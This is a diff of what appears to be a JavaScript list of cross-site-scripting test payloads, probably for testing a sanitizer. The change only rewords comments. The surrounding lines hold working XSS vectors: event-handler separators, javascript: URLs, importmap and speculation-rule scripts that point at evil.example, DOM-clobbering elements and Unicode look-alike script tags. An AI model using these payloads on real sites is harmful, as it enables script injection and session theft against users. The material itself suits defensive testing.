@@ -1,4 +1,4 @@
-/** What an attack calls. */
+/** Function that an attack calls. */
 const CALL = 'alert(1)';
 
 /** Every way that letters of an address can be written in markup or that parsers of addresses drop again. */
@@ -39,7 +39,7 @@ const byAddress = RUNNING.flatMap((scheme) =>
 );
 
 const TAGS = ['a', 'p', 'img', 'td', 'svg', 'details', 'custom-tag', 'span lang=de'];
-/** What parts a handler from what is before it; the last three are no blanks to every parser. */
+/** Characters between a handler and the text before it; the last three are no blanks to every parser. */
 const PARTS = [' ', '/', '\n', '\t', '\f', ' x="a>b" ', " x='\"' ", '/x=y/', '" ', ' `'];
 const HANDLERS = [
   `onerror=${CALL}`,
@@ -127,12 +127,12 @@ const BY_ELEMENT = [
   `<portal src=javascript:${CALL}></portal><fencedframe src=//evil.example></fencedframe>`,
   `<script type=importmap>{"imports":{"react":"//evil.example"}}</script>`,
   `<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>`,
-  // Names that hide what scripts look up in document and window.
+  // Names that hide properties of document and window from scripts.
   `<form id=x name=attributes><input id=attributes><input name=innerHTML></form>`,
   `<a id=defaultView name=cookie href="clob:x">a</a><img name=getElementById><img id=currentScript>`,
   `<p id=__proto__>a</p><span id=constructor name=toString class=modal>b</span>`,
   `<object id=settings><embed name=url></object><iframe name=config srcdoc="<a id=x>"></iframe>`,
-  // Not ASCII, and not what it seems.
+  // Characters outside of ASCII that look like others.
   `\u2028<script>\u2029${CALL}</script>`,
   `<\u017fcript>${CALL}</\u017fcript>`,
   `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
